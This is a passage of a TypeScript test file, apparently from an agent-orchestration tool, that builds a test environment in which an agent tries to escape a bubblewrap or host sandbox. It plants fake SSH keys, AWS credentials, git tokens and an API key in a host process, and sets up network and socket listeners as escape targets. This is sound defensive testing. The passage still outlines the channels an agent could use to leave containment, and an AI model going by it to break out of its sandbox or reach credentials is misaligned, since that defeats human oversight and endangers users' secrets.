    if (!probe.available) throw new Error(`overlay workspaces were asked for, and cannot be made here: ${probe.reason}`)
    overlays = createOverlayWorktrees({ git: createGit(world.repository), colonyDir: join(world.repository, '.colony') })
  }
  await writeFile(join(world.repository, '.env'), `${marker('REPO')}\n`)
  await writeFile(join(world.repository, 'README.md'), `# sample\n${marker('UNCOMMITTED')}\n`)
  await writeFile(join(world.repository, `tool-${token}`), '#!/bin/sh\necho tool ran\n', { mode: 0o755 })
  await mkdir(join(world.repository, 'node_modules', '.bin'), { recursive: true })
  await mkdir(join(world.repository, 'node_modules', 'hello'), { recursive: true })
  await mkdir(join(world.repository, 'node_modules', 'greeting'), { recursive: true })
  await writeFile(join(world.repository, 'node_modules', 'hello', 'package.json'), '{ "name": "hello", "bin": "cli.js" }\n')
  await writeFile(join(world.repository, 'node_modules', 'hello', 'cli.js'), `#!/usr/bin/env node\nconsole.log(require('greeting'))\n`, { mode: 0o755 })
  await writeFile(join(world.repository, 'node_modules', 'greeting', 'package.json'), '{ "name": "greeting", "main": "index.js" }\n')
  await writeFile(join(world.repository, 'node_modules', 'greeting', 'index.js'), `module.exports = 'hello from a dependency'\n`)
  await symlink('../hello/cli.js', join(world.repository, 'node_modules', '.bin', 'hello'))
  await git(world.repository, ['remote', 'add', 'origin', `https://${marker('GIT-URL')}@example.com/repository.git`])
  await git(world.repository, ['config', 'http.https://example.com/.extraheader', `AUTHORIZATION: basic ${marker('GIT-HEADER')}`])

  world.worktree = join(world.repository, '.colony', 'worktrees', 'task-1')
  world.sibling = join(world.repository, '.colony', 'worktrees', 'task-2')
  if (overlays) {
    // Colony's own overlay workspaces (test/hostile/sandbox-escape-overlay.test.ts runs this file in a user and mount namespace).
    const head = (await git(world.repository, ['rev-parse', 'HEAD'])).trim()
    for (const [path, branch] of [[world.worktree, 'colony/task/1'], [world.sibling, 'colony/task/2']] as const) await overlays.add(path, { commit: head, branch })
    await Promise.all(crowd.map((name) => overlays!.add(join(world.repository, '.colony', 'worktrees', name), { commit: head })))
  } else {
    await git(world.repository, ['worktree', 'add', '-q', '-b', 'colony/task/1', world.worktree])
    await git(world.repository, ['worktree', 'add', '-q', '-b', 'colony/task/2', world.sibling])
  }
  await writeFile(join(world.sibling, 'notes.txt'), `${marker('SIBLING')}\n`)

  // Outside /tmp when possible, so HOME is hidden for being HOME and not only for being in /tmp.
  world.home = await mkdtemp(join(isWritable('/var/lib') ? '/var/lib' : base, 'colony-hostile-home-'))
  cleanups.push(world.home)
  await mkdir(join(world.home, '.ssh'), { recursive: true })
  await mkdir(join(world.home, '.aws'), { recursive: true })
  await writeFile(join(world.home, '.ssh', 'id_rsa'), `${marker('SSH')}\n`, { mode: 0o600 })
  await writeFile(join(world.home, '.aws', 'credentials'), `[default]\naws_secret_access_key = ${marker('AWS')}\n`)
  await mkdir(join(world.home, 'bin'))
  await writeFile(join(world.home, 'bin', 'home-tool'), '#!/bin/sh\necho home tool ran\n', { mode: 0o755 })
  await writeFile(join(world.home, 'bin', 'notes.txt'), `${marker('HOME-NOTES')}\n`)
  const packaged = join(world.home, '.local', 'share', 'packaged')
  await mkdir(join(packaged, 'bin'), { recursive: true })
  await writeFile(join(packaged, 'package.json'), '{ "name": "packaged" }\n')
  await writeFile(join(packaged, 'library.js'), `module.exports = 'with its library'\n`)
  await writeFile(join(packaged, 'bin', 'packaged.js'), `#!/usr/bin/env node\nconsole.log('packaged tool ran', require('../library.js'))\n`, { mode: 0o755 })
  await symlink('../.local/share/packaged/bin/packaged.js', join(world.home, 'bin', 'packaged'))

  for (const directory of ['/tmp', ...(isWritable('/root') ? ['/root'] : [])]) {
    await writeFile(join(directory, `tool-${token}`), '#!/bin/sh\necho tool ran\n', { mode: 0o755 })
    await writeFile(join(directory, `secret-${token}.txt`), `${marker(directory === '/tmp' ? 'TMP' : 'ROOT')}\n`)
    await chmod(join(directory, `secret-${token}.txt`), 0o644)
    cleanups.push(join(directory, `tool-${token}`), join(directory, `secret-${token}.txt`))
  }
  world.rootPlanted = isWritable('/root')

  world.host = spawn('bash', ['-c', `exec -a colony-host-${token} sleep 1e9`], { env: { ...process.env, FAKE_API_KEY: plantedKey }, stdio: 'ignore' })

  world.connections = 0
  const count = () => world.connections++
  const http = createHttpServer((_request, response) => response.end('hello from the host'))
  http.on('connection', count)
  await new Promise<void>((done) => http.listen(0, '127.0.0.1', done))
  world.loopbackPort = (http.address() as { port: number }).port
  servers.push(http)
  world.lanAddress = Object.values(networkInterfaces())
    .flat()
    .find((address) => address && address.family === 'IPv4' && !address.internal)?.address
  const lan = createHttpServer((_request, response) => response.end('hello from the host'))
  lan.on('connection', count)
  await new Promise<void>((done) => lan.listen(0, world.lanAddress ?? '127.0.0.1', done))
  world.lanPort = (lan.address() as { port: number }).port
  servers.push(lan)
  for (const [field, path] of [
    ['abstractSocket', `\0colony-hostile-${token}`],
    ['agentSocket', join(base, 'agent.sock')],
    ['runSocket', isWritable('/run') ? `/run/colony-${token}.sock` : undefined],
  ] as const) {
    if (!path) continue
    const server = createServer((socket) => socket.end('hello from the host'))
    server.on('connection', count)
    await listen(server, path)
    servers.push(server)
    world[field] = path.replace('\0', '')
    if (field === 'runSocket') cleanups.push(path)
  }
})

afterAll(async () => {
  world.host?.kill('SIGKILL')
  if (overlays) for (const path of [world.worktree, world.sibling, ...crowd.map((name) => join(world.repository, '.colony', 'worktrees', name))]) await overlays.remove(path)
  // As a run ends: the bases go, and the worktrees directory's own mount with them.
  await overlays?.sweep({ final: true })
  for (const server of servers) server.close()
  expect(survivors()).toEqual([])
  for (const path of cleanups) await rm(path, { recursive: true, force: true })
  if (base) await rm(base, { recursive: true, force: true })
})

const bubblewrap = probeBubblewrap()

describe.each<SandboxMode>(['bubblewrap', 'host'])('an agent trying to escape the %s sandbox', (mode) => {
  const available = mode === 'host' || bubblewrap.available
  const claimed: readonly Guarantee[] = available ? createSandbox({ repositoryRoot: '/', policy: policyWith(), mode }).guarantees : []

  const context: Context = {
    world,
    mode,
    run: (command, options = {}) =>
      createSandbox({ repositoryRoot: world.repository, policy: policyWith(options.policy), mode, graceMs: 200, environment: sandboxEnvironmentFor(world, options.path) }).run(command, {
        cwd: world.worktree,
        timeoutMs: options.timeoutMs ?? 10_000,
      }),
  }

  for (const attempt of attempts) {
    const name = `[${attempt.guarantee}] ${attempt.name}`
    if (!claimed.includes(attempt.guarantee)) {
      it.skip(`${name} [not claimed: ${available ? `${mode} mode makes no ${attempt.guarantee} claim here` : bubblewrap.available ? '' : bubblewrap.reason}]`, () => undefined)
      continue
    }
    it(name, async (test) => {
      const reason = attempt.unavailable?.(world, mode)
      if (reason) return test.skip(reason)
      await attempt.attempt(context)
    }, 30_000)
  }

  it.runIf(mode === 'bubblewrap' && process.env.COLONY_ESCAPE_WORKSPACES === 'overlay')('attacks from overlay workspaces: the worktree and its sibling are overlays mounted here', () => {
    expect(mountedOverlays()).toEqual(new Set([world.worktree, world.sibling]))
    expect(workspaceDetach(world.worktree)).toBeUndefined()
  })

  it.runIf(mode === 'bubblewrap' && process.env.COLONY_ESCAPE_WORKSPACES === 'overlay-detached')('attacks from overlay workspaces among many: each command leaves the other workspaces\' mounts behind', async () => {
    expect(mountedOverlays().size).toBe(detachFrom + 2)
    expect(workspaceDetach(world.worktree)).toBeDefined()
    const seen = await context.run('grep -c " - overlay " /proc/self/mountinfo; cat README.md')
    expect(seen.exitCode, seen.output).toBe(0)
    // Its own workspace where it was held, bound where the command runs, and its read-only `.git` pointer; none of the other 65.
    expect(Number(seen.output.split('\n')[0])).toBeLessThanOrEqual(3)
    expect(seen.output).toContain('# sample')
  })

  it.runIf(mode === 'bubblewrap' && available)('makes at least 26 attempts in bubblewrap mode, each on a guarantee the mode claims', () => {
    const made = attempts.filter((attempt) => claimed.includes(attempt.guarantee) && !attempt.unavailable?.(world, mode))
    expect(made.length).toBeGreaterThanOrEqual(26)
    expect(new Set(made.map((attempt) => attempt.guarantee))).toEqual(new Set(claimed))
  })
})
